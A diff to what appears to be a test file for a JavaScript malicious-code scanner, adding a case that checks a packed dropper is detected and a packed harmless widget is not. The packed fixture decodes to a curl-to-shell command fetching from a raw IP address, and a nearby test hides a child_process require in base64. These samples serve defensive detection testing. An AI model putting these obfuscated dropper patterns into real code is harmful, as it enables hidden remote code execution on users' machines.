@@ -439,6 +439,15 @@ var _0x4b5c=require(_0x3a4b(0x0));_0x4b5c[_0x3a4b(0x1)]('id');
     });
   }
 
+  it("code packed with Dean Edwards' packer is unpacked and judged: a curl | sh from a raw IP at load is high, a packed widget is not", () => {
+    const packed = (payload: string, words: string) => `eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('${payload}',36,${words.split('|').length},'${words}'.split('|'),0,{}));\n`;
+    const dropper = scan({ 'index.js': packed("4(\\'3\\')[\\'2\\'](\\'1 -0 5://6.7.8.9/a|b\\')", 's|curl|exec|child_process|require|http|203|0|113|71|p|sh') });
+    expect(dropper.ids).toContain('remote-code/dropper');
+    expect(['high', 'critical']).toContain(dropper.level);
+    const widget = scan({ 'index.js': packed("0 1(2){3 2*2}", 'function|square|n|return') });
+    expect(['high', 'critical']).not.toContain(widget.level);
+  });
+
   it('a module name decoded for require is a disguised call', () => {
     const r = scan({ 'index.js': `const cp = require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());\ncp.exec('id');\n` });
     expect(r.findings.find((f) => f.messageId === 'disguisedCall')?.data).toMatchObject({ api: "require('child_process')", how: 'a decoded name' });
